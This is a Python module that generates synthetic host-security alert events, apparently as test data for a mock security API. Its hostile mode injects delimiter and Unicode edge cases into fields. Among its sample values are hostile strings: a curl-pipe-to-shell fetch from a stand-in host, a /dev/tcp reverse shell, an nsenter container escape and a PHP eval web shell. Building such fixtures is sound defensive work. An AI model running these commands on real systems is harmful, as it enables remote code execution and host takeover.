"""Deterministic generation of HSS security events.

Every event has two parts:
  - index fields (time, type, severity, host, status, ...) drawn eagerly from
    a per-stream RNG: what the query filters need;
  - the body (every other field of the API schema), built lazily from the
    event's own 64-bit seed the first time it is served, then cached as JSON.
Same seed + same options => byte-identical events, whatever order they are
read in.
"""

import json
import random
import re
import uuid
import zlib

# (event_type, event_class_id, event_name, family, att_ck, attack_phase)
EVENT_TYPES = [
    (1001, "malware_0001", "Common malware", "malware", "Execution", "installation"),
    (1002, "malware_1002", "Virus", "malware", "Execution", "installation"),
    (1003, "malware_1003", "Worm", "malware", "Execution", "delivery"),
    (1004, "malware_1004", "Trojan", "malware", "Persistence", "installation"),
    (1005, "malware_1005", "Botnet", "malware", "Command and Control", "command_and_control"),
    (1006, "malware_1006", "Backdoor", "malware", "Persistence", "installation"),
    (1010, "rootkit_0001", "Rootkit", "malware", "Defense Evasion", "installation"),
    (1011, "malware_1011", "Ransomware", "malware", "Impact", "actions"),
    (1012, "malware_1012", "Hacker tool", "malware", "Execution", "weaponization"),
    (1015, "webshell_0001", "Web shell", "webshell", "Persistence", "installation"),
    (1016, "malware_1016", "Mining", "malware", "Impact", "actions"),
    (1017, "rsh_0001", "Reverse shell", "process", "Command and Control", "command_and_control"),
    (2001, "vul_exploit_0001", "Common vulnerability exploit", "vuln", "Initial Access", "exploit"),
    (2012, "vul_exploit_2012", "Remote code execution", "vuln", "Execution", "exploit"),
    (2047, "vul_exploit_2047", "Redis exploit", "vuln", "Initial Access", "exploit"),
    (2048, "vul_exploit_2048", "Hadoop exploit", "vuln", "Initial Access", "exploit"),
    (2049, "vul_exploit_2049", "MySQL exploit", "vuln", "Initial Access", "exploit"),
    (3002, "privilege_0001", "File privilege escalation", "file", "Privilege Escalation", "exploit"),
    (3003, "privilege_0002", "Process privilege escalation", "process", "Privilege Escalation", "exploit"),
    (3004, "file_0001", "Critical file change", "file", "Persistence", "actions"),
    (3005, "file_0002", "File/Directory change", "file", "Defense Evasion", "actions"),
    (3007, "proc_0001", "Abnormal process behavior", "process", "Execution", "actions"),
    (3015, "cmd_0001", "High-risk command", "process", "Execution", "actions"),
    (3018, "shell_0001", "Abnormal shell", "process", "Execution", "actions"),
    (3026, "crontab_0001", "Crontab privilege escalation", "file", "Privilege Escalation", "installation"),
    (3027, "crontab_0002", "Suspicious crontab task", "file", "Persistence", "installation"),
    (3029, "sys_0001", "System protection disabled", "process", "Defense Evasion", "actions"),
    (3030, "backup_0001", "Backup deletion", "process", "Impact", "actions"),
    (3031, "registry_0001", "Abnormal registry operation", "registry", "Persistence", "installation"),
    (3036, "image_0001", "Container image blocking", "image", "Initial Access", "delivery"),
    (4002, "login_1001", "Brute-force attack", "login", "Credential Access", "exploit"),
    (4004, "login_1002", "Abnormal login", "login", "Initial Access", "exploit"),
    (4006, "login_1003", "Invalid system account", "account", "Persistence", "installation"),
    (4014, "usr_0001", "User account added", "account", "Persistence", "installation"),
    (4020, "pwd_0001", "Password theft", "account", "Credential Access", "actions"),
    (6002, "port_scan_0001", "Port scan", "scan", "Reconnaissance", "reconnaissance"),
    (6003, "host_scan_0001", "Host scan", "scan", "Reconnaissance", "reconnaissance"),
    (13001, "k8s_1001", "Kubernetes event deletion", "k8s", "Defense Evasion", "actions"),
    (13002, "k8s_1002", "Abnormal pod behavior", "k8s", "Execution", "actions"),
    (13003, "k8s_1003", "User-info enumeration", "k8s", "Reconnaissance", "reconnaissance"),
    (13004, "k8s_1004", "Cluster role binding", "k8s", "Privilege Escalation", "installation"),
]
TYPE_BY_ID = {t[0]: t for t in EVENT_TYPES}
HOST_TYPES = [t for t in EVENT_TYPES if t[0] < 13000 and t[0] != 3036]
CONTAINER_TYPES = EVENT_TYPES + [t for t in EVENT_TYPES
                                 if t[0] >= 13000 or t[0] == 3036] * 3

SEVERITIES = ["Security", "Low", "Medium", "High", "Critical"]
SEVERITY_W = [0.05, 0.25, 0.60, 0.88, 1.0]         # cumulative
HANDLE_STATUS = ["unhandled", "handled"]
ATTACK_TAGS = ["attack_success", "attack_attempt", "attack_blocked",
               "abnormal_behavior", "collapsible_host", "system_vulnerability"]
ASSET_VALUES = ["important", "common", "test"]
ATT_CK = ["Reconnaissance", "Initial Access", "Execution", "Persistence",
          "Privilege Escalation", "Defense Evasion", "Credential Access",
          "Command and Control", "Impact"]
ATTACK_PHASES = ["reconnaissance", "weaponization", "delivery", "exploit",
                 "installation", "command_and_control", "actions"]
HANDLE_METHODS = ["mark_as_handled", "ignore", "add_to_alarm_whitelist",
                  "add_to_login_whitelist", "isolate_and_kill"]
ENTERPRISE_PROJECTS = ["0", "ep-finance", "ep-dev"]
EP_W = [0.5, 0.75, 1.0]
TAGS = ["Hot Event", "APT", "Ransomware", "Mining", "Exploit", "热点事件",
        "hot event"]
HANDLERS = ["admin", "secops", "王伟", "محمد", "ops-😀", "auto-remediation"]
USERS = ["root", "admin", "ubuntu", "zhangsan", "张三", "مستخدم", "משתמש",
         "user😀", "svc_backup", "Ⅻ-ünïcødé", "a" * 64]
HOST_NAMES = ["web-%02d", "db-prod-%02d", "数据库服务器-%02d", "خادم-الويب-%02d",
              "שרת-יישומים-%02d", "app-🚀-%02d", "Ünïcödé-host-%02d",
              "k8s-node-%02d", "ecs-win-%02d", "ecs-" + "long" * 60 + "-%02d"]
IMAGES = ["nginx:1.25", "redis:7.2", "mysql:8.0", "busybox:latest",
          "swr.ap-southeast-1.myhuaweicloud.com/app/服务:v2",
          "registry.example.com/team/api-🚀:1.0"]
HEX = "0123456789abcdef"


def _hex(rng, n):
    return "%0*x" % (n, rng.getrandbits(4 * n))


def _uuid(rng):
    return str(uuid.UUID(int=rng.getrandbits(128), version=4))


def _ip(rng, private=True):
    if private:
        return "192.168.%d.%d" % (rng.randrange(256), rng.randrange(1, 255))
    return "%d.%d.%d.%d" % (rng.choice((49, 110, 119, 121, 159, 190)),
                            rng.randrange(256), rng.randrange(256),
                            rng.randrange(1, 255))


class Host:
    __slots__ = ("name", "id", "private_ip", "public_ip", "os_type", "os_name",
                 "os_version", "ep", "asset_value", "host_status",
                 "agent_status", "protect_status", "vm_uuid", "vpc_id",
                 "agent_id", "host_attr", "service", "micro_service",
                 "sys_arch", "os_bit")


class Container:
    __slots__ = ("name", "id", "image", "image_id", "pod", "pod_uid",
                 "namespace", "cluster_id", "cluster_name", "status")


class Project:
    """One --project: its events (sorted by occur_time, insertion index)."""

    def __init__(self, pid, name, region, domain_id, seed, n_hosts):
        self.id = pid
        self.name = name
        self.region = region
        self.domain_id = domain_id
        rng = random.Random("%s:%s:hosts" % (seed, pid))
        self.hosts = []
        for i in range(n_hosts):
            h = Host()
            h.name = HOST_NAMES[i % len(HOST_NAMES)] % (i // len(HOST_NAMES))
            h.id = _uuid(rng)
            h.private_ip = _ip(rng)
            h.public_ip = _ip(rng, False) if rng.random() < 0.5 else ""
            win = "win" in h.name
            h.os_type = "Windows" if win else "Linux"
            h.os_name = "Windows Server 2019" if win else rng.choice(
                ("EulerOS", "CentOS", "Ubuntu", "Debian"))
            h.os_version = rng.choice(("2.5", "7.9", "22.04", "12", "10.0"))
            u = rng.random()
            h.ep = ENTERPRISE_PROJECTS[0 if u < EP_W[0] else
                                       1 if u < EP_W[1] else 2]
            h.asset_value = rng.choice(ASSET_VALUES)
            h.host_status = rng.choice(("ACTIVE",) * 7 +
                                       ("SHUTOFF", "BUILDING", "ERROR"))
            h.agent_status = rng.choice(("online",) * 5 + ("offline",))
            h.protect_status = rng.choice(("opened",) * 5 + ("closed",))
            h.vm_uuid = _uuid(rng)
            h.vpc_id = _uuid(rng)
            h.agent_id = _hex(rng, 64)
            h.host_attr = rng.choice(("", "cloud_host", "on_premise"))
            h.service = rng.choice(("", "cce", "ecs"))
            h.micro_service = rng.choice(("", "order-svc", "支付服务"))
            h.sys_arch = rng.choice(("x86_64", "aarch64"))
            h.os_bit = rng.choice(("64", "32"))
            self.hosts.append(h)
        self.containers = []
        for i in range(max(4, n_hosts // 2)):
            c = Container()
            c.image = IMAGES[i % len(IMAGES)]
            base = c.image.split("/")[-1].split(":")[0]
            c.name = "%s-%s-%s" % (base, _hex(rng, 4), _hex(rng, 5))
            c.id = _hex(rng, 64)
            c.image_id = "sha256:" + _hex(rng, 64)
            c.pod = "%s-pod-%d" % (base, i)
            c.pod_uid = _uuid(rng)
            c.namespace = rng.choice(("default", "kube-system", "prod", "生产"))
            c.cluster_id = _uuid(rng)
            c.cluster_name = rng.choice(("cce-prod", "cce-dev", "集群-01"))
            c.status = rng.choice(("running", "running", "terminated"))
            self.containers.append(c)
        self.seed = seed
        self.frags = {}        # cached JSON of shared sub-objects
        self.events = []       # sorted by (occur_time, idx)
        self.keys = []         # parallel (occur_time, idx) for bisect


class Event:
    __slots__ = ("idx", "project", "category", "ep", "occur_time", "event_id",
                 "seed", "etype", "severity", "attack_tag", "att_ck",
                 "host", "container", "tags", "event_count", "handle_status",
                 "handle_time", "handle_method", "handler", "u_late",
                 "u_hostile", "u_mutate", "force_late", "origin", "f", "fh",
                 "json", "json_epoch", "served")

    def key(self):
        return (self.occur_time, self.idx)


def new_event(rng, project, idx, occur_time, category, now_ms, ep=None,
              origin="generated"):
    """Draw the index fields of one event from rng (the stream's RNG)."""
    r = rng.random
    e = Event()
    e.idx = idx
    e.project = project
    e.category = category
    e.occur_time = occur_time
    e.seed = rng.getrandbits(64)
    e.event_id = str(uuid.UUID(int=rng.getrandbits(128), version=4))
    types = CONTAINER_TYPES if category == "container" else HOST_TYPES
    e.etype = types[int(r() * len(types))]
    u = r()
    e.severity = SEVERITIES[0 if u < .05 else 1 if u < .25 else
                            2 if u < .60 else 3 if u < .88 else 4]
    e.attack_tag = ATTACK_TAGS[int(r() * 6)]
    e.att_ck = e.etype[4] if r() < 0.8 else ATT_CK[int(r() * 9)]
    hosts = project.hosts
    if ep is not None:
        cand = [h for h in hosts if h.ep == ep] or hosts
        e.host = cand[int(r() * len(cand))]
        e.ep = ep
    else:
        e.host = hosts[int(r() * len(hosts))]
        e.ep = e.host.ep
    cs = project.containers
    e.container = cs[int(r() * len(cs))] if category == "container" else None
    u = r()
    e.tags = () if u < 0.5 else (TAGS[int(r() * len(TAGS))],) if u < 0.9 \
        else (TAGS[0], TAGS[int(r() * len(TAGS))])
    u = r()
    e.event_count = 1 if u < 0.7 else 1 + int(r() * r() * 1000)
    if r() < 0.3:
        e.handle_status = "handled"
        e.handle_time = min(occur_time + 60000 + int(r() * 259200000), now_ms)
        e.handle_method = HANDLE_METHODS[int(r() * 5)]
        e.handler = HANDLERS[int(r() * len(HANDLERS))]
    else:
        e.handle_status = "unhandled"
        e.handle_time = e.handle_method = e.handler = None
        r()
        r()
    e.u_late = r()
    e.u_hostile = r()
    e.u_mutate = r()
    e.force_late = None
    e.origin = origin
    e.fh = None
    e.json = None
    e.json_epoch = -1
    e.served = 0
    c = e.container
    e.f = {"host_name": e.host.name, "host_id": e.host.id,
           "private_ip": e.host.private_ip, "public_ip": e.host.public_ip,
           "container_name": c.name if c else "", "event_name": e.etype[2],
           "event_class_id": e.etype[1], "tag_list": e.tags}
    return e


# ---------------------------------------------------------------- hostile

HOSTILE_PIECES = ["|", "\\", "=", "]", '"', "\r", "\n", "\x00", "\udc80"]
# Fields that stay clean: the identity and the enum values the API filters on.
HOSTILE_EXEMPT = {"event_id", "severity", "handle_status", "attack_tag",
                  "asset_value", "resource_info.enterprise_project_id",
                  "resource_info.project_id"}
LONG_FIELDS = ["description", "host_name", "event_name", "event_details",
               "recommendation", "event_abstract", "container_name",
               "private_ip", "host_id", "event_class_id",
               "process_info_list[0].process_cmdline",
               "user_info_list[0].user_name", "file_info_list[0].file_path",
               "resource_info.vm_name", "tag_list[0]"]
_LONG_UNIT = "x" * 96 + "界é"           # 100 bytes of UTF-8
LONG_VALUE = _LONG_UNIT * 1024           # 102,400 bytes


def hostile_value(idx, path, value):
    """The hostile replacement of one string field of event idx."""
    if path == LONG_FIELDS[idx % len(LONG_FIELDS)]:
        return value + LONG_VALUE
    k = HOSTILE_PIECES[(idx + zlib.crc32(path.encode())) % len(HOSTILE_PIECES)]
    return "%s%sforged%s=x%s" % (value, k, k, k)


def hostile_filter_fields(e):
    out = {}
    for k, v in e.f.items():
        if k == "tag_list":
            out[k] = tuple(hostile_value(e.idx, "tag_list[%d]" % i, t)
                           for i, t in enumerate(v))
        elif v == "" and k in ("public_ip", "container_name"):
            out[k] = v                  # absent from the body
        else:
            out[k] = hostile_value(e.idx, k, v)
    return out


def _hostilize(obj, idx, path):
    if isinstance(obj, dict):
        for k, v in obj.items():
            p = path + "." + k if path else k
            if isinstance(v, str):
                if p not in HOSTILE_EXEMPT:
                    obj[k] = hostile_value(idx, p, v)
            elif isinstance(v, (dict, list)):
                _hostilize(v, idx, p)
    elif isinstance(obj, list):
        for i, v in enumerate(obj):
            p = "%s[%d]" % (path, i)
            if isinstance(v, str):
                obj[i] = hostile_value(idx, p, v)
            elif isinstance(v, (dict, list)):
                _hostilize(v, idx, p)


_SURR = re.compile("[\ud800-\udfff]")


def to_json(obj, surrogates=False):
    """Compact JSON, raw UTF-8; lone surrogates (only when surrogates is
    true: hostile events) as \\uXXXX escapes."""
    s = json.dumps(obj, ensure_ascii=False, separators=(",", ":"))
    if surrogates and _SURR.search(s):
        s = _SURR.sub(lambda m: "\\u%04x" % ord(m.group()), s)
    return s.encode("utf-8")


# ---------------------------------------------------------------- body

_WORDS = ("suspicious", "process", "攻击", "检测", "تنبيه", "file", "🔥",
          "network", "connection", "kernel", "module")
_wr = random.Random(0)
_TEXT = " ".join(_WORDS[_wr.randrange(len(_WORDS))] for _ in range(20000))
del _wr


def _long_text(rng, n):
    """About n words of mixed-script text."""
    start = rng.randrange(len(_TEXT) // 2)
    return _TEXT[start:start + 7 * n].strip()


def _process(rng, os_type, user, k8s):
    name = rng.choice(("bash", "python3", "kworker", "xmrig", "nc", "java",
                       "powershell.exe", "进程", "sshd"))
    path = ("C:\\Windows\\System32\\" if os_type == "Windows"
            else "/usr/bin/") + name
    cmd = path + " " + rng.choice(("-c 'curl http://x.example/s|sh'",
                                   "-i >& /dev/tcp/10.0.0.1/4444 0>&1",
                                   "--donate-level 1", "-jar app.jar", ""))
    if rng.random() < 0.05:
        cmd += " " + "A" * 4096
    pid = rng.randrange(2, 4194304)
    st = rng.randrange(1600000000, 1700000000)
    fh = _hex(rng, 64)
    ppid = rng.randrange(1, pid + 1)
    return {
        "process_path": path, "process_name": name, "process_cmdline": cmd,
        "process_hash": fh, "process_filename": name,
        "process_file_hash": fh, "process_username": user,
        "process_pid": pid, "process_uid": rng.choice((0, 1000, 10000)),
        "process_gid": 0, "process_egid": 0, "process_euid": 0,
        "process_start_time": st, "block": rng.choice((0, 1)),
        "parent_process_path": "/usr/bin/bash",
        "parent_process_name": "bash", "parent_process_cmdline": "/bin/bash",
        "parent_process_filename": "bash",
        "parent_process_file_hash": _hex(rng, 64),
        "parent_process_pid": ppid, "parent_process_uid": 0,
        "parent_process_gid": 0, "parent_process_egid": 0,
        "parent_process_euid": 0, "parent_process_start_time": st - 5,
        "child_process_path": "/usr/bin/sh", "child_process_name": "sh",
        "child_process_cmdline": "sh -c id", "child_process_filename": "sh",
        "child_process_pid": pid + 1, "child_process_uid": 0,
        "child_process_gid": 0, "child_process_egid": 0,
        "child_process_euid": 0, "child_process_start_time": st + 1,
        "virt_process_name": name if k8s else "",
        "virt_cmd": cmd if k8s else "",
        "escape_cmd": "nsenter -t 1 -m sh" if k8s else "",
        "escape_mode": rng.choice(("0", "1")),
        "ancestor_process_pid": 1, "ancestor_process_cmdline": "/sbin/init",
        "ancestor_process_path": "/sbin/init"}


def _user(rng, user, now_s):
    return {
        "user_id": rng.randrange(0, 65535), "user_gid": rng.randrange(0, 65535),
        "user_name": user, "user_group_name": rng.choice(("root", "wheel",
                                                          "用户组")),
        "user_home_dir": "/home/" + user, "login_ip": _ip(rng, False),
        "service_type": rng.choice(("ssh", "rdp", "mysql", "ftp")),
        "service_port": rng.choice((22, 3389, 3306, 21)),
        "login_mode": rng.choice((0, 1, 2)),
        "login_last_time": now_s - rng.randrange(0, 2592000),   # seconds
        "login_fail_count": rng.randrange(0, 500),
        "pwd_hash": "$6$" + _hex(rng, 16) + "$" + _hex(rng, 40),
        "pwd_with_fuzzing": rng.choice(("", "pa*****rd")),
        "pwd_used_days": rng.randrange(0, 900),
        "pwd_min_days": 0, "pwd_max_days": 99999, "pwd_warn_left_days": 7}


def _file(rng, h):
    name = rng.choice(("passwd", "shadow", "crontab", "index.jsp",
                       "木马.php", "payload.exe", "authorized_keys"))
    d = rng.choice(("/etc/", "/var/www/html/", "/tmp/", "/root/.ssh/",
                    "/home/用户/"))
    t = rng.randrange(1600000000, 1700000000)
    return {
        "file_path": d + name, "file_alias": name,
        "file_size": rng.randrange(0, 10 ** 7), "file_mtime": t,
        "file_atime": t + 10, "file_ctime": t - 10,
        "file_hash": _hex(rng, 64), "file_md5": _hex(rng, 32),
        "file_sha256": _hex(rng, 64), "file_type": rng.choice(("ELF", "text",
                                                               "PE32")),
        "file_content": rng.choice(("", "<?php eval($_POST['x']);?>")),
        "file_attr": rng.choice(("33261", "33188", "16877")),
        "file_operation": rng.choice((1, 2, 4)),
        "file_action": rng.choice(("create", "modify", "delete", "rename")),
        "file_change_attr": rng.choice(("", "mode", "owner")),
        "file_new_path": "", "file_desc": "",
        "file_key_word": "file_path=" + d + name, "is_dir": False,
        "fd_info": "", "fd_count": rng.randrange(0, 64)}


class FastRng:
    """random.Random's few methods used here, cheaper (no rejection
    sampling); deterministic for a seed."""
    __slots__ = ("random", "getrandbits")

    def __init__(self, seed):
        r = random.Random(seed)
        self.random = r.random
        self.getrandbits = r.getrandbits

    def randrange(self, a, b=None):
        if b is None:
            return int(self.random() * a)
        return a + int(self.random() * (b - a))

    def choice(self, seq):
        return seq[int(self.random() * len(seq))]

    def uniform(self, a, b):
        return a + (b - a) * self.random()


MARK_RI = "\x00\x01ri"
MARK_PI = "\x00\x01pi"
MARK_RI_JSON = '"\\u0000\\u0001ri"'
MARK_PI_JSON = '"\\u0000\\u0001pi"'


def _resource_info(p, e):
    h, c = e.host, e.container
    return {
        "domain_id": p.domain_id, "project_id": p.id,
        "enterprise_project_id": e.ep, "region_name": p.region,
        "vpc_id": h.vpc_id, "cloud_id": h.vm_uuid, "vm_name": h.name,
        "vm_uuid": h.vm_uuid,
        "container_id": c.id if c else "",
        "container_status": c.status if c else "",
        "pod_uid": c.pod_uid if c else "", "pod_name": c.pod if c else "",
        "namespace": c.namespace if c else "",
        "cluster_id": c.cluster_id if c else "",
        "cluster_name": c.cluster_name if c else "",
        "image_id": c.image_id if c else "", "image_name": c.image if c else "",
        "host_attr": h.host_attr, "service": h.service,
        "micro_service": h.micro_service, "sys_arch": h.sys_arch,
        "os_bit": h.os_bit, "os_type": h.os_type, "os_name": h.os_name,
        "os_version": h.os_version}


def _frag_resource(p, e):
    """resource_info as JSON text, shared by the events of one host,
    container and enterprise project."""
    key = ("ri", e.host.id, e.container.id if e.container else None, e.ep)
    f = p.frags.get(key)
    if f is None:
        f = p.frags[key] = to_json(_resource_info(p, e)).decode("utf-8")
    return f


def _frag_process(p, os_type, k8s, variant):
    """One process_info_list entry as JSON text, from a pool of 16 per
    project, OS and k8s-ness (the same processes show up on many hosts)."""
    key = ("pi", os_type, k8s, variant)
    f = p.frags.get(key)
    if f is None:
        rng = FastRng("%s:%s:%s:%s:%d" % (p.seed, p.id, os_type, k8s,
                                          variant))
        f = p.frags[key] = to_json(_process(
            rng, os_type, USERS[variant % len(USERS)], k8s)).decode("utf-8")
    return f


def build_body(e, hostile=False):
    """The full API event of e (a dict in a fixed key order).  Unless
    hostile, resource_info and process_info_list are markers that
    body_json replaces with cached JSON."""
    rng = FastRng(e.seed)
    h = e.host
    c = e.container
    t = e.etype
    fam = t[3]
    p = e.project
    user = USERS[rng.randrange(len(USERS))]
    now_s = e.occur_time // 1000
    d = {"event_id": e.event_id, "event_class_id": t[1], "event_type": t[0],
         "event_name": t[2], "severity": e.severity}
    if c is not None:
        d["container_name"] = c.name
        d["image_name"] = c.image
    d["host_name"] = h.name
    d["host_id"] = h.id
    d["private_ip"] = h.private_ip
    if h.public_ip:
        d["public_ip"] = h.public_ip
    d["os_type"] = h.os_type
    d["host_status"] = h.host_status
    d["agent_status"] = h.agent_status
    d["protect_status"] = h.protect_status
    d["asset_value"] = h.asset_value
    d["attack_phase"] = t[5]
    d["attack_tag"] = e.attack_tag
    d["occur_time"] = e.occur_time
    if e.handle_status == "handled":
        d["handle_time"] = e.handle_time
    d["handle_status"] = e.handle_status
    if e.handle_status == "handled":
        d["handle_method"] = e.handle_method
        d["handler"] = e.handler
        d["operate_accept_list"] = []
    else:
        d["operate_accept_list"] = ["ignore", "mark_as_handled"] + (
            ["isolate_and_kill"] if fam in ("malware", "webshell") else
            ["add_to_login_whitelist"] if fam == "login" else
            ["add_to_alarm_whitelist"])
    fhash = _hex(rng, 64)
    fpath = rng.choice(("/usr/test", "/tmp/.x/kthreadd", "/var/www/shell.jsp",
                        "C:\\Users\\Public\\a.exe", "/root/挖矿"))
    ods = []
    for i in range(1 + (rng.random() < 0.2)):
        ods.append({
            "agent_id": h.agent_id, "process_pid": rng.randrange(2, 65536),
            "is_parent": i == 1, "file_hash": fhash, "file_path": fpath,
            # The official example has a number where the schema says string.
            "file_attr": 33261 if rng.random() < 0.8 else "33261",
            "private_ip": h.private_ip, "login_ip": _ip(rng, False),
            "login_user_name": user, "keyword": "file_path=" + fpath,
            "hash": fhash})
    d["operate_detail_list"] = ods
    d["forensic_info"] = {"country": rng.choice(("China", "Germany", "Brazil",
                                                 "中国")),
                          "city": rng.choice(("Lanzhou", "Berlin", "São Paulo",
                                              "兰州")),
                          "ip": _ip(rng, False), "user": user,
                          "sub_division": "Gansu",
                          "city_id": rng.randrange(1, 10000)}
    if fam in ("login", "scan", "vuln", "k8s") or t[0] == 1017:
        d["geo_info"] = {"src_ip": _ip(rng, False),
                         "country_id": rng.randrange(1, 250),
                         "country_name": rng.choice(("China", "日本",
                                                     "Россия")),
                         "city_id": rng.randrange(1, 10000),
                         "city_name": rng.choice(("Xi'an", "東京", "Москва")),
                         "latitude": round(rng.uniform(-90, 90), 4),
                         "longitude": round(rng.uniform(-180, 180), 4)}
        d["network_info"] = {"local_ip": h.private_ip,
                             "local_port": rng.choice((22, 80, 443, 3306,
                                                       6379)),
                             "remote_ip": _ip(rng, False),
                             "remote_port": rng.randrange(1024, 65536),
                             "protocol": rng.choice(("tcp", "udp")),
                             "direction": rng.choice(("in", "out"))}
    if fam in ("malware", "webshell"):
        d["malware_info"] = {"malware_family": rng.choice(("Mirai", "XMRig",
                                                           "WannaCry",
                                                           "China Chopper")),
                             "malware_class": t[2],
                             "file_hash": fhash, "file_path": fpath,
                             "detect_engine": rng.choice(("hss-av", "yara"))}
    if fam in ("vuln", "webshell"):
        d["app_info"] = {"domain_name": rng.choice(("www.example.com",
                                                    "例子.中国")),
                         "app_name": rng.choice(("tomcat", "redis", "mysql",
                                                 "hadoop")),
                         "url": "/index.jsp?cmd=id", "http_method": "POST",
                         "cve_id": "CVE-20%02d-%05d" % (rng.randrange(10, 25),
                                                        rng.randrange(99999))}
    if fam in ("registry", "process", "account"):
        d["system_info"] = {"system_env": h.os_name,
                            "reg_key": "HKLM\\Software\\Microsoft\\Windows\\"
                            "CurrentVersion\\Run" if fam == "registry" else "",
                            "reg_value": "", "service_name": "sshd"}
    u = rng.random()
    d["extend_info"] = "" if u < 0.6 else {"source": "hss", "rule_id":
                                           rng.randrange(1, 9999)} \
        if u < 0.9 else json.dumps({"raw": "value"})
    if hostile:
        d["resource_info"] = json.loads(_frag_resource(p, e))
    else:
        d["resource_info"] = MARK_RI
    d["recommendation"] = rng.choice((
        "Isolate the file and check the host.",
        "请检查登录来源是否可信。", "تحقق من العملية", ""))
    d["description"] = _long_text(rng, rng.randrange(300, 1200)) \
        if rng.random() < 0.05 else _long_text(rng, rng.randrange(3, 20))
    d["event_abstract"] = "%s on %s" % (t[2], h.name)
    d["event_details"] = "file_path:" + fpath
    d["tag_list"] = list(e.tags)
    d["event_count"] = e.event_count
    if fam in ("process", "malware", "webshell", "k8s", "image") or \
            rng.random() < 0.2:
        keys = [(h.os_type, fam == "k8s", rng.randrange(16))
                for _ in range(1 + (rng.random() < 0.15))]
        procs = "[" + ",".join(_frag_process(p, *k) for k in keys) + "]"
        d["process_info_list"] = json.loads(procs) if hostile else MARK_PI
    else:
        procs = None
    if fam in ("login", "account") or rng.random() < 0.1:
        d["user_info_list"] = [_user(rng, user, now_s)]
    if fam in ("file", "malware", "webshell", "registry") or \
            rng.random() < 0.1:
        d["file_info_list"] = [_file(rng, h) for _ in range(1 + (rng.random()
                                                                  < 0.15))]
    return d, procs


def body_json(e, hostile):
    d, procs = build_body(e, hostile)
    if hostile:
        _hostilize(d, e.idx, "")
        return to_json(d, True)
    s = json.dumps(d, ensure_ascii=False, separators=(",", ":"))
    s = s.replace(MARK_RI_JSON, _frag_resource(e.project, e), 1)
    if procs is not None:
        s = s.replace(MARK_PI_JSON, procs, 1)
    return s.encode("utf-8")
